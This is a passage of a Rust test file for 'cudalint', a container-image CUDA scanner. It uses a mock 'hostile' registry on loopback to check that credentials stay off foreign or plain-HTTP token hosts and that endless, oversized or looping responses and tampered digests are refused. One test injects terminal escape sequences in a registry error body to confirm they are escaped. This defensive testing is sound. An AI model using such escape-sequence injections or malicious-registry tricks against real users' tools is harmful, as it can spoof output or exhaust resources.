    assert_eq!(field(0, "reason"), "runs on all targets");
    // The first failing headline, in one line.
    for i in [1, 2] {
        let r = field(i, "reason");
        assert!(r.starts_with("H100") && r.contains("fails — ") && r.contains("libsm100f.so"), "{r}");
        assert!(!r.contains('\n'));
    }
    // One report per platform, each of its own platform, none overwriting another.
    let files: Vec<String> = (0..3).map(|i| field(i, "report")).collect();
    assert_eq!(files.iter().collect::<std::collections::BTreeSet<_>>().len(), 3, "{files:?}");
    for (i, want) in [(0, "linux/amd64"), (1, "linux/arm64")] {
        let r: serde_json::Value = serde_json::from_slice(&std::fs::read(whole.join(&files[i])).unwrap()).unwrap();
        assert_eq!(r["image"]["platform"], want, "{}", files[i]);
    }
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(text.contains(&format!("{app} (linux/arm64)")) && text.contains(&format!("{app} (linux/amd64)")), "{text}");
    assert!(text.contains("2 images (1 multi-platform: 2 platforms scanned), 3 results: 1 passed, 2 failed"), "{text}");
    let arm_line = text.lines().find(|l| l.starts_with(&format!("{app} (linux/arm64)"))).unwrap();
    assert!(arm_line.contains("H100") && arm_line.contains("libsm100f.so"), "{arm_line}");

    // Sharded and merged: the same rows, platforms and reasons.
    let mut parts = Vec::new();
    for k in 0..2 {
        let d = out.path().join(format!("shard{k}"));
        registry_run(&reg, &d, &["--shard", &format!("{k}/2")]);
        parts.push(d.join("summary.json"));
    }
    let merged = out.path().join("merged.json");
    let o = Command::cargo_bin("cudalint").unwrap().arg("merge").args(&parts).arg("-o").arg(&merged).output().unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(&merged).unwrap()).unwrap();
    assert_eq!(m["images"], s["images"]);
    assert!(String::from_utf8_lossy(&o.stdout).contains("2 platforms scanned"));

    // Chosen platforms: only those; a tag that is one image is scanned whatever its platform.
    let d = out.path().join("arm");
    let o = registry_run(&reg, &d, &["--platform", "linux/arm64"]);
    assert_eq!(o.status.code(), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(rows(&summary_of(&d)), [(app.clone(), Some("linux/arm64".to_string())), (one.clone(), None)]);
    let d = out.path().join("both");
    registry_run(&reg, &d, &["--platform", "linux/arm64,linux/amd64"]);
    assert_eq!(rows(&summary_of(&d)), rows(&s));
    // None of them offered: an error naming what is.
    let d = out.path().join("s390x");
    let o = registry_run(&reg, &d, &["--platform", "linux/s390x"]);
    assert_eq!(o.status.code(), Some(2));
    let e = &summary_of(&d)["images"][0];
    assert_eq!((e["image"].as_str(), e["status"].as_str()), (Some(app.as_str()), Some("error")));
    let r = e["reason"].as_str().unwrap();
    assert!(r.contains("linux/s390x") && r.contains("linux/amd64, linux/arm64"), "{r}");
    let o = registry_run(&reg, &out.path().join("bad"), &["--platform", "linux"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("not os/arch"), "{}", String::from_utf8_lossy(&o.stderr));
}

/// What the hostile registry answers to one request.
#[derive(Clone)]
enum Reply {
    /// Status line, extra headers, body (sent with its Content-Length).
    Full(u16, Vec<(String, String)>, Vec<u8>),
    /// Headers (a Content-Length if given, else the body ends with the connection), then the
    /// body one byte per second.
    Trickle(Vec<(String, String)>, Vec<u8>),
    /// Headers, then zeros until the client hangs up.
    Endless(Vec<(String, String)>),
}

fn ok(ct: &str, body: &[u8]) -> Reply {
    Reply::Full(200, vec![("Content-Type".into(), ct.into())], body.to_vec())
}

/// A registry that answers as `handler` says (by request path, query included); every request
/// head is recorded. Plain HTTP on loopback; one thread per connection.
struct Hostile {
    port: u16,
    heads: Arc<Mutex<Vec<String>>>,
}

impl Hostile {
    fn start(handler: impl Fn(&str) -> Reply + Send + Sync + 'static) -> Hostile {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let (h2, handler) = (heads.clone(), Arc::new(handler));
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut c) = conn else { continue };
                let (heads, handler) = (h2.clone(), handler.clone());
                std::thread::spawn(move || {
                    loop {
                        let mut head = Vec::new();
                        let mut b = [0u8; 1];
                        while !head.ends_with(b"\r\n\r\n") {
                            match c.read(&mut b) {
                                // A TLS ClientHello: this registry speaks plain HTTP only.
                                Ok(1) if head.is_empty() && b[0] == 0x16 => return,
                                Ok(1) => head.push(b[0]),
                                _ => return,
                            }
                        }
                        let head = String::from_utf8_lossy(&head).into_owned();
                        heads.lock().unwrap().push(head.clone());
                        let path = head.split(' ').nth(1).unwrap_or("/").to_string();
                        let hdrs = |h: &[(String, String)], len: Option<usize>| {
                            let mut s = String::new();
                            for (k, v) in h {
                                s.push_str(&format!("{k}: {v}\r\n"));
                            }
                            match len {
                                Some(n) => s.push_str(&format!("Content-Length: {n}\r\n")),
                                None => s.push_str("Connection: close\r\n"),
                            }
                            s
                        };
                        match handler(&path) {
                            Reply::Full(code, h, body) => {
                                let r = format!("HTTP/1.1 {code} X\r\n{}\r\n", hdrs(&h, Some(body.len())));
                                if c.write_all(r.as_bytes()).and_then(|_| c.write_all(&body)).is_err() {
                                    return;
                                }
                            }
                            Reply::Trickle(h, body) => {
                                let has_len = h.iter().any(|(k, _)| k.eq_ignore_ascii_case("content-length"));
                                let mut s = String::from("HTTP/1.1 200 OK\r\n");
                                for (k, v) in &h {
                                    s.push_str(&format!("{k}: {v}\r\n"));
                                }
                                if !has_len {
                                    s.push_str("Connection: close\r\n");
                                }
                                s.push_str("\r\n");
                                let _ = c.write_all(s.as_bytes());
                                for byte in body {
                                    if c.write_all(&[byte]).is_err() {
                                        return;
                                    }
                                    std::thread::sleep(Duration::from_secs(1));
                                }
                                return;
                            }
                            Reply::Endless(h) => {
                                let r = format!("HTTP/1.1 200 OK\r\n{}\r\n", hdrs(&h, None));
                                let _ = c.write_all(r.as_bytes());
                                let zeros = vec![0u8; 65536];
                                while c.write_all(&zeros).is_ok() {}
                                return;
                            }
                        }
                    }
                });
            }
        });
        Hostile { port, heads }
    }

    fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().unwrap().clone()
    }
}

fn cli_scan(spec: &str, extra: &[&str]) -> std::process::Output {
    Command::cargo_bin("cudalint")
        .unwrap()
        .args(["scan", spec, "--quiet", "--no-cache", "--format", "inventory"])
        .args(extra)
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap()
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

const OCI_MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
const OCI_INDEX: &str = "application/vnd.oci.image.index.v1+json";

fn sha256_of(b: &[u8]) -> String {
    format!("sha256:{}", hex::encode(sha2::Sha256::digest(b)))
}

fn sha512_of(b: &[u8]) -> String {
    use sha2::Digest as _;
    format!("sha512:{}", hex::encode(sha2::Sha512::digest(b)))
}

/// A one-layer image (uncompressed tar holding a CUDA library) as registry documents:
/// (manifest, config, layer), with blob digests made by `digest`.
fn tiny_image(digest: fn(&[u8]) -> String) -> (Vec<u8>, Vec<u8>, Vec<u8>, String, String) {
    let layer = tar(&[Ent::File("usr/lib/libsm90a.so", read_fixture("libsm90a.so"))]);
    let config = serde_json::to_vec(&serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": [sha256_of(&layer)]},
        "config": {}
    }))
    .unwrap();
    let (cd, ld) = (digest(&config), digest(&layer));
    let manifest = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2, "mediaType": OCI_MANIFEST,
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": config.len()},
        "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": ld, "size": layer.len()}]
    }))
    .unwrap();
    (manifest, config, layer, cd, ld)
}

use sha2::Digest as _;

#[test]
fn credentials_never_go_to_a_token_realm_on_another_host() {
    // The token service: records whatever reaches it.
    let realm = Hostile::start(|_| Reply::Full(401, vec![], b"no".to_vec()));
    let realm_url = format!("http://{}/token", realm.host());
    let reg = Hostile::start(move |_| {
        Reply::Full(
            401,
            vec![("WWW-Authenticate".into(), format!("Bearer realm=\"{realm_url}\",service=\"x\""))],
            vec![],
        )
    });
    let spec = format!("{}/app/img:1", reg.host());
    let with_creds = |extra: &[&str]| {
        Command::cargo_bin("cudalint")
            .unwrap()
            .args(["scan", &spec, "--quiet", "--no-cache", "--gpu", "H100", "--username", "ci", "--password-stdin"])
            .args(extra)
            .write_stdin("s3cret\n")
            .output()
            .unwrap()
    };
    let o = with_creds(&[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("--allow-auth-host"), "{}", stderr(&o));
    assert!(realm.heads().is_empty(), "nothing reached the foreign realm: {:?}", realm.heads());
    // Allowed by name, but plain HTTP: still refused.
    let o = with_creds(&["--allow-auth-host", &realm.host()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("only over HTTPS"), "{}", stderr(&o));
    assert!(realm.heads().is_empty(), "{:?}", realm.heads());
    // The client says why, as a value: another host, then (allowed) plain HTTP.
    let refusal = |allow: Vec<String>| {
        let o = RegistryOptions {
            username: Some("ci".into()),
            password: Some("s3cret".into()),
            allow_auth_hosts: allow,
            ..Default::default()
        };
        match Remote::connect(parse_reference(&spec).unwrap(), &o) {
            Err(RegistryError::Token { reason: TokenError::Refused(r), .. }) => r,
            Err(e) => panic!("refused for another reason: {e}"),
            Ok(_) => panic!("connected"),
        }
    };
    assert_eq!(
        refusal(vec![]),
        RealmRefusal::OtherHost {
            realm: format!("http://{}/token", realm.host()),
            registry: reg.host(),
            host: realm.host()
        }
    );
    assert_eq!(
        refusal(vec![realm.host()]),
        RealmRefusal::PlainHttp { realm: format!("http://{}/token", realm.host()) }
    );
    assert!(realm.heads().is_empty(), "{:?}", realm.heads());
    // Anonymous: the realm is asked for a token, without any Authorization.
    let o = cli_scan(&spec, &[]);
    assert_eq!(o.status.code(), Some(2));
    let heads = realm.heads();
    assert!(!heads.is_empty(), "an anonymous token request is made");
    assert!(heads.iter().all(|h| !h.to_ascii_lowercase().contains("authorization")), "{heads:?}");
    assert!(reg.heads().iter().all(|h| !h.to_ascii_lowercase().contains("authorization")));
}

#[test]
fn nested_indexes_are_fetched_once_each_and_their_fan_out_is_bounded() {
    let (manifest, ..) = tiny_image(sha256_of);
    // Four levels of indexes, each listing the next one 20 times.
    let mut docs: Vec<(String, Vec<u8>)> = vec![(sha256_of(&manifest), manifest.clone())];
    let mut child = (sha256_of(&manifest), OCI_MANIFEST, manifest.len());
    for _ in 0..4 {
        let entry = serde_json::json!({"mediaType": child.1, "digest": child.0, "size": child.2,
            "platform": {"architecture": "amd64", "os": "linux"}});
        let idx = serde_json::to_vec(&serde_json::json!({"schemaVersion": 2, "mediaType": OCI_INDEX,
            "manifests": vec![entry; 20]}))
        .unwrap();
        child = (sha256_of(&idx), OCI_INDEX, idx.len());
        docs.push((child.0.clone(), idx));
    }
    let top = docs.last().unwrap().1.clone();
    let reg = Hostile::start(move |path| {
        if path == "/v2/" {
            return ok("application/json", b"{}");
        }
        if path.ends_with("/manifests/1") {
            return ok(OCI_INDEX, &top);
        }
        for (d, b) in &docs {
            if path.ends_with(&format!("/manifests/{d}")) {
                let ct = if b == &docs[0].1 { OCI_MANIFEST } else { OCI_INDEX };
                return ok(ct, b);
            }
        }
        Reply::Full(404, vec![], vec![])
    });
    let o = cli_scan(&format!("{}/n/img:1", reg.host()), &[]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    // Deduplicated by digest, the 20^4 references resolve to the one manifest at once; the scan
    // then stops at its config, which this server does not have (no fan-out, no hang).
    assert!(stderr(&o).contains("not found in the registry"), "{}", stderr(&o));
    let manifest_gets = reg.heads().iter().filter(|h| h.contains("/manifests/")).count();
    assert!(manifest_gets <= 6, "each index fetched once, not {manifest_gets} times");
}

#[test]
fn oversized_endless_and_trickling_registries_end_in_exit_2() {
    let (manifest, config, _layer, cd, ld) = tiny_image(sha256_of);
    let (m2, c2, ld2) = (manifest.clone(), config.clone(), ld.clone());
    let reg = Hostile::start(move |path| {
        let json = |ct: &str| vec![("Content-Type".to_string(), ct.to_string())];
        match path {
            "/v2/" => ok("application/json", b"{}"),
            // Announces 100 MB: refused before reading.
            p if p.ends_with("/big/manifests/1") => {
                Reply::Full(200, vec![("Content-Type".into(), OCI_MANIFEST.into())], vec![b' '; 5 << 20])
            }
            p if p.ends_with("/endless/manifests/1") => Reply::Endless(json(OCI_MANIFEST)),
            p if p.ends_with("/slow/manifests/1") => Reply::Trickle(json(OCI_MANIFEST), m2.clone()),
            p if p.ends_with("/manifests/1") => ok(OCI_MANIFEST, &m2),
            p if p.ends_with(&format!("/blobs/{cd}")) => ok("application/octet-stream", &c2),
            // The layer never ends.
            p if p.ends_with(&format!("/blobs/{ld2}")) => Reply::Endless(vec![]),
            _ => Reply::Full(404, vec![], vec![]),
        }
    });
    let run = |repo: &str, extra: &[&str]| cli_scan(&format!("{}/{repo}:1", reg.host()), extra);
    let o = run("x/big", &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("announces 5242880 bytes"), "{}", stderr(&o));
    let o = run("x/endless", &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("sent more than"), "{}", stderr(&o));
    let o = run("x/layer", &[]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains(&ld) && stderr(&o).contains("sent more than"), "{}", stderr(&o));
    let o = run("x/slow", &["--registry-stall-timeout", "2"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("stalled"), "{}", stderr(&o));
    let o = run("x/slow", &["--registry-stall-timeout", "600", "--registry-deadline", "2"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("deadline"), "{}", stderr(&o));
}

#[test]
fn catalog_pagination_that_makes_no_progress_is_an_error() {
    let reg = Hostile::start(|path| {
        let page = |next: &str| {
            Reply::Full(
                200,
                vec![("Link".into(), format!("<{next}>; rel=\"next\""))],
                br#"{"repositories":["a/one","b/two"]}"#.to_vec(),
            )
        };
        match path {
            "/v2/" => ok("application/json", b"{}"),
            // The first registry's Link points back at the same page.
            p if p.starts_with("/v2/_catalog?n=1000") && !p.contains("last") => {
                page("/v2/_catalog?n=1000&last=b%2Ftwo")
            }
            // Then ever new URLs serving the same page again.
            p if p.starts_with("/v2/_catalog") => page(&format!("{p}x")),
            _ => Reply::Full(404, vec![], vec![]),
        }
    });
    let out = tempfile::tempdir().unwrap();
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["registry", &reg.host(), "--quiet", "--no-cache", "--gpu", "H100", "--output-dir"])
        .arg(out.path())
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("no progress"), "{}", stderr(&o));
    assert!(reg.heads().len() < 10);
    let looping = Hostile::start(|path| match path {
        "/v2/" => ok("application/json", b"{}"),
        p => Reply::Full(
            200,
            vec![("Link".into(), format!("<{p}>; rel=\"next\""))],
            br#"{"repositories":["a"]}"#.to_vec(),
        ),
    });
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["registry", &looping.host(), "--quiet", "--no-cache", "--gpu", "H100", "--output-dir"])
        .arg(out.path())
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("loops"), "{}", stderr(&o));
}

#[test]
fn sha512_digests_are_verified_and_unknown_algorithms_refused() {
    let (manifest, config, layer, cd, ld) = tiny_image(sha512_of);
    let md = sha512_of(&manifest);
    let mut bad_layer = layer.clone();
    let n = bad_layer.len();
    bad_layer[n - 1] ^= 1;
    let odd = String::from_utf8(manifest.clone()).unwrap().replace(&ld, &format!("blake3:{}", &ld[7..71]));
    let (m2, md2, ld2) = (manifest.clone(), md.clone(), ld.clone());
    let reg = Hostile::start(move |path| match path {
        "/v2/" => ok("application/json", b"{}"),
        p if p.starts_with("/v2/odd/") && p.ends_with("/manifests/1") => ok(OCI_MANIFEST, odd.as_bytes()),
        p if p.ends_with("/manifests/1") || p.ends_with(&format!("/manifests/{md2}")) => ok(OCI_MANIFEST, &m2),
        p if p.ends_with(&format!("/blobs/{cd}")) => ok("application/octet-stream", &config),
        p if p.starts_with("/v2/good/") && p.ends_with(&format!("/blobs/{ld2}")) => {
            ok("application/octet-stream", &layer)
        }
        p if p.ends_with(&format!("/blobs/{ld2}")) => ok("application/octet-stream", &bad_layer),
        _ => Reply::Full(404, vec![], vec![]),
    });
    let good = cli_scan(&format!("{}/good/img:1", reg.host()), &[]);
    assert!(good.status.code() != Some(2), "{}", stderr(&good));
    let inv: serde_json::Value = serde_json::from_slice(&good.stdout).unwrap();
    assert!(inv["files"].as_array().unwrap().iter().any(|f| f["path"] == "/usr/lib/libsm90a.so"), "{inv}");
    assert_eq!(inv["image"]["layers"][0]["verified"], true, "{inv}");
    // By manifest digest (sha512) too.
    let by_digest = cli_scan(&format!("{}/good/img@{md}", reg.host()), &[]);
    assert!(by_digest.status.code() != Some(2), "{}", stderr(&by_digest));
    let tampered = cli_scan(&format!("{}/bad/img:1", reg.host()), &[]);
    assert_eq!(tampered.status.code(), Some(2));
    assert!(stderr(&tampered).contains("digest mismatch") && stderr(&tampered).contains(&ld), "{}", stderr(&tampered));
    let odd = cli_scan(&format!("{}/odd/img:1", reg.host()), &[]);
    assert_eq!(odd.status.code(), Some(2));
    assert!(stderr(&odd).contains("cannot be verified"), "{}", stderr(&odd));
}

#[test]
fn registry_error_bodies_reach_the_terminal_escaped() {
    let reg = Hostile::start(|path| match path {
        "/v2/" => ok("application/json", b"{}"),
        _ => Reply::Full(500, vec![], b"\x1b[2K\rpassed: 0 errors\n\x1b]0;owned\x07".to_vec()),
    });
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["scan", &format!("{}/e/img:1", reg.host()), "--quiet", "--no-cache", "--gpu", "H100"])
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(!err.chars().any(|c| c.is_control() && c != '\n'), "{err:?}");
    assert!(err.contains("\\x1b[2K\\rpassed"), "{err}");
    assert_eq!(err.trim_end().lines().count(), 1, "one error line: {err}");
}

#[test]
fn a_token_realm_on_the_registrys_own_host_gets_the_credentials_and_its_token_is_used() {
    let (manifest, config, layer, cd, ld) = tiny_image(sha256_of);
    let port = Arc::new(std::sync::OnceLock::<u16>::new());
    let p2 = port.clone();
    let reg = Hostile::start(move |path| {
        let realm = format!("http://127.0.0.1:{}/token", p2.get().unwrap());
        let challenge = Reply::Full(
            401,
            vec![("WWW-Authenticate".into(), format!("Bearer realm=\"{realm}\",service=\"test\""))],
            vec![],
        );
        match path {
            p if p.starts_with("/token?") => ok("application/json", br#"{"token":"tok-123"}"#),
            "/v2/" => challenge,
            p if p.ends_with("/manifests/1") => ok(OCI_MANIFEST, &manifest),
            p if p.ends_with(&format!("/blobs/{cd}")) => ok("application/octet-stream", &config),
            p if p.ends_with(&format!("/blobs/{ld}")) => ok("application/octet-stream", &layer),
            _ => Reply::Full(404, vec![], vec![]),
        }
    });
    port.set(reg.port).unwrap();
    let o = Command::cargo_bin("cudalint")
        .unwrap()
        .args(["scan", &format!("{}/tok/img:1", reg.host()), "--quiet", "--no-cache", "--format", "inventory"])
        .args(["--username", "ci", "--password-stdin"])
        .write_stdin("s3cret\n")
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap();
    assert!(o.status.code() != Some(2), "{}", stderr(&o));
    let heads = reg.heads();
    let token_req = heads.iter().find(|h| h.starts_with("GET /token?")).expect("a token request");
    // Basic ci:s3cret, and the pull scope of the repository.
    assert!(token_req.contains("Basic Y2k6czNjcmV0"), "{token_req}");
    assert!(token_req.contains("scope=repository%3Atok%2Fimg%3Apull"), "{token_req}");
    let pulls: Vec<&String> = heads.iter().filter(|h| h.contains("/manifests/") || h.contains("/blobs/")).collect();
    assert!(!pulls.is_empty());
    for h in pulls {
        assert!(h.contains("Bearer tok-123") && !h.contains("Basic"), "{h}");
    }
}

#[test]
fn an_analysis_store_claim_is_lost_as_soon_as_another_lands_and_won_once_it_settles() {
    use cudalint::cache::LayerKey;
    use cudalint::image::analysis_store::{AnalysisStore, Claim};
    use cudalint::registry::{Artifact, media};
    let reg = Registry::start(false, None);
    let repo = format!("{}/cudalint/analyses", reg.host());
    let store = |repo: &str, settle: Duration| {
        AnalysisStore::connect(repo, &RegistryOptions::default()).unwrap().with_claim_settle(settle)
    };
    let key = |c: &str| LayerKey::new(&format!("sha256:{}", c.repeat(64)), &Default::default());
    // Alone: the claim still stands when it has settled, so it is ours.
    assert!(matches!(store(&repo, Duration::from_millis(200)).claim(&key("a")), Claim::Mine));
    // Another claimant's push lands after ours: lost at the next read, not after the settle time.
    let (k, settle) = (key("b"), Duration::from_secs(60));
    let tag = format!("cudalint-claim-{}", k.hex());
    let r = repo.clone();
    let claimant = std::thread::spawn(move || {
        let start = Instant::now();
        let c = store(&r, settle).claim(&k);
        (matches!(c, Claim::Theirs), start.elapsed())
    });
    let at_tag = parse_reference(&format!("{repo}:{tag}")).unwrap();
    let other = Remote::connect(at_tag.clone(), &RegistryOptions::default()).unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while other.manifest(&at_tag).is_err() {
        assert!(Instant::now() < deadline, "the claim was never pushed");
        std::thread::sleep(Duration::from_millis(20));
    }
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs().to_string();
    other
        .push_artifact(&Artifact {
            artifact_type: media::LAYER_CLAIM,
            payload_type: media::MediaType::EmptyJSON.as_ref(),
            payload: b"{}",
            subject: None,
            annotations: &[("dev.cudalint.claim.id", "another-shard"), ("dev.cudalint.claim.at", &now)],
            tag: Some(&tag),
            label: "manifest",
        })
        .unwrap();
    let (lost, took) = claimant.join().unwrap();
    assert!(lost, "the later claim wins");
    assert!(took < settle / 2, "known at once, not after the settle time: {took:?}");

    // A won claim is renewed while its analysis runs (here: never pushed): its `at` moves on,
    // so others keep waiting for it past the lease.
    let (k, tag) = (key("c"), format!("cudalint-claim-{}", key("c").hex()));
    let at = |m: &(Vec<u8>, String)| -> u64 {
        let v: serde_json::Value = serde_json::from_slice(&m.0).unwrap();
        v["annotations"]["dev.cudalint.claim.at"].as_str().unwrap().parse().unwrap()
    };
    let at_tag = parse_reference(&format!("{repo}:{tag}")).unwrap();
    let holder = store(&repo, Duration::from_millis(200)).with_claim_timeout(Duration::from_secs(3));
    assert!(matches!(holder.claim(&k), Claim::Mine));
    let first = at(&other.manifest(&at_tag).unwrap());
    let deadline = Instant::now() + Duration::from_secs(60);
    while at(&other.manifest(&at_tag).unwrap()) == first {
        assert!(Instant::now() < deadline, "the claim was never renewed");
        std::thread::sleep(Duration::from_millis(200));
    }
    drop(holder);
}

fn cli_support(spec: &str, extra: &[&str]) -> std::process::Output {
    Command::cargo_bin("cudalint")
        .unwrap()
        .args(["support", spec, "--quiet", "--no-cache"])
        .args(extra)
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap()
}

const INVENTORY_PREDICATE: &str = "https://cudalint.dev/attestation/inventory/v1";
const SUPPORT_PREDICATE: &str = "https://cudalint.dev/attestation/support/v1";

/// The cudalint statements attached to `repo`'s manifest `digest` (the loopback registry has no
/// referrers API: the tag schema's index lists them): (predicate type, statement), in order.
fn attached(reg: &Registry, repo: &str, digest: &str) -> Vec<(String, serde_json::Value)> {
    let remote =
        Remote::connect(parse_reference(&format!("{}/{repo}:x", reg.host())).unwrap(), &opts(None).registry).unwrap();
    let tag = parse_reference(&format!("{}/{repo}:{}", reg.host(), digest.replace(':', "-"))).unwrap();
    let (index, _) = remote.manifest(&tag).unwrap();
    let index: serde_json::Value = serde_json::from_slice(&index).unwrap();
    let mut out = Vec::new();
    for d in index["manifests"].as_array().unwrap() {
        let by_digest = parse_reference(&format!("{}/{repo}@{}", reg.host(), d["digest"].as_str().unwrap())).unwrap();
        let (m, _) = remote.manifest(&by_digest).unwrap();
        let m: serde_json::Value = serde_json::from_slice(&m).unwrap();
        assert_eq!(m["subject"]["digest"], digest);
        assert_eq!(m["artifactType"], "application/vnd.in-toto+json");
        let st = remote.small_blob_bounded(m["layers"][0]["digest"].as_str().unwrap(), 64 << 20).unwrap();
        // Signed: a DSSE envelope whose payload is the statement.
        let st = match m["layers"][0]["mediaType"].as_str().unwrap() {
            "application/vnd.dsse.envelope.v1+json" => crate::signing::open_envelope(&st).1,
            _ => st,
        };
        let st: serde_json::Value = serde_json::from_slice(&st).unwrap();
        assert_eq!(st["_type"], "https://in-toto.io/Statement/v1");
        assert_eq!(st["predicateType"], d["annotations"]["in-toto.io/predicate-type"]);
        assert_eq!(st["subject"][0]["digest"]["sha256"], digest.strip_prefix("sha256:").unwrap());
        out.push((st["predicateType"].as_str().unwrap().to_string(), st));
    }
    out
}

/// Pushes `support` as a support statement about `repo`'s manifest `digest` (as another
/// cudalint, or a broken one, would have), signed with `key` if given.
fn attach_support(reg: &Registry, repo: &str, digest: &str, support: &serde_json::Value, key: Option<&Path>) {
    use cudalint::image::attest;
    let reference = parse_reference(&format!("{}/{repo}@{digest}", reg.host())).unwrap();
    let remote = Remote::connect(reference.clone(), &opts(None).registry).unwrap();
    let (m, _) = remote.manifest(&reference).unwrap();
    let subject = attest::Subject {
        repository: repo.into(),
        digest: digest.into(),
        size: m.len(),
        media_type: OCI_MANIFEST.into(),
    };
    let st = attest::support_statement(&subject, &reference.whole(), support);
    let signer = key.map(|k| cudalint::image::sign::Signer::from_pem_file(k).unwrap());
    attest::push(&remote, &subject, attest::SUPPORT_PREDICATE_TYPE, &st, signer.as_ref()).unwrap();
}

/// A loopback registry holding one image under each of `repo_tags`: libstale.so (nvcc 13.5),
/// SASS for sm_75 to sm_90, no PTX.
fn stale_image_registry(repo_tags: &[&str]) -> (Registry, tempfile::TempDir) {
    let reg = Registry::start(false, None);
    let layout = tempfile::tempdir().unwrap();
    let img = Image::new(vec![(
        tar(&[Ent::File("usr/lib/libstale.so", read_fixture("../verdict/libstale.so"))]),
        Comp::Gzip,
    )]);
    oci_layout(layout.path(), &[&img]);
    for rt in repo_tags {
        reg.push(layout.path(), rt, None);
    }
    (reg, layout)
}

#[test]
fn the_support_matrix_is_attested_beside_the_inventory_and_read_back_without_pulling_a_layer() {
    let (reg, layout) = stale_image_registry(&["att/stale:1", "att/bare:1"]);
    let spec = format!("{}/att/stale:1", reg.host());
    let keys = tempfile::tempdir().unwrap();
    let (key, public) = crate::signing::keypair(keys.path(), "attester");
    let verify = public.to_str().unwrap();

    // Not a registry image: --attest is refused, not silently left out.
    let o = cli_support(&format!("oci:{}", layout.path().display()), &["--attest"]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("--attest needs an image in a registry"), "{}", stderr(&o));

    // `support --attest`: the inventory and the support matrix, both referrers of the manifest.
    let o = cli_support(&spec, &["--attest", "--sign-key", key.to_str().unwrap(), "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let pushed: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let manifest = pushed["image"]["manifest_digest"].as_str().unwrap().to_string();
    let statements = attached(&reg, "att/stale", &manifest);
    let types: Vec<&str> = statements.iter().map(|(t, _)| t.as_str()).collect();
    assert_eq!(types, [INVENTORY_PREDICATE, SUPPORT_PREDICATE]);
    assert_eq!(statements[1].1["predicate"], pushed, "the support predicate is the support document");
    assert_eq!(statements[1].1["subject"][0]["name"], spec.as_str());

    // Read back through a proxy that counts requests: every format, no layer pulled.
    let proxy = Proxy::start(reg.port);
    let via = format!("{}/att/stale:1", proxy.host());
    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(read, pushed);
    assert!(!stderr(&o).contains("note"), "{}", stderr(&o));
    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(String::from_utf8_lossy(&o.stdout).contains(pushed["summary"].as_str().unwrap()));
    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--format", "html"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let html = String::from_utf8_lossy(&o.stdout);
    assert!(html.contains("<table id=\"support\">") && !html.contains("<h2>Coverage</h2>"), "the table alone");
    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--emit", "require"]);
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), pushed["require"].as_str().unwrap());

    // Made by a newer cudalint version: printed as attached, with a note (the newest by the
    // signed version is believed, whatever the order).
    let mut newer = pushed.clone();
    newer["tool"]["version"] = "999.0.0".into();
    attach_support(&reg, "att/stale", &manifest, &newer, Some(&key));
    let o = cli_support(&via, &["--from-attestation", "--verify-key", verify, "--format", "json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()["tool"], newer["tool"]);
    assert!(stderr(&o).contains("made by cudalint 999.0.0"), "{}", stderr(&o));

    // A support statement this cudalint cannot read, signed: passed over, the newest readable
    // one shown.
    let mut broken = pushed.clone();
    broken.as_object_mut().unwrap().remove("gpus");
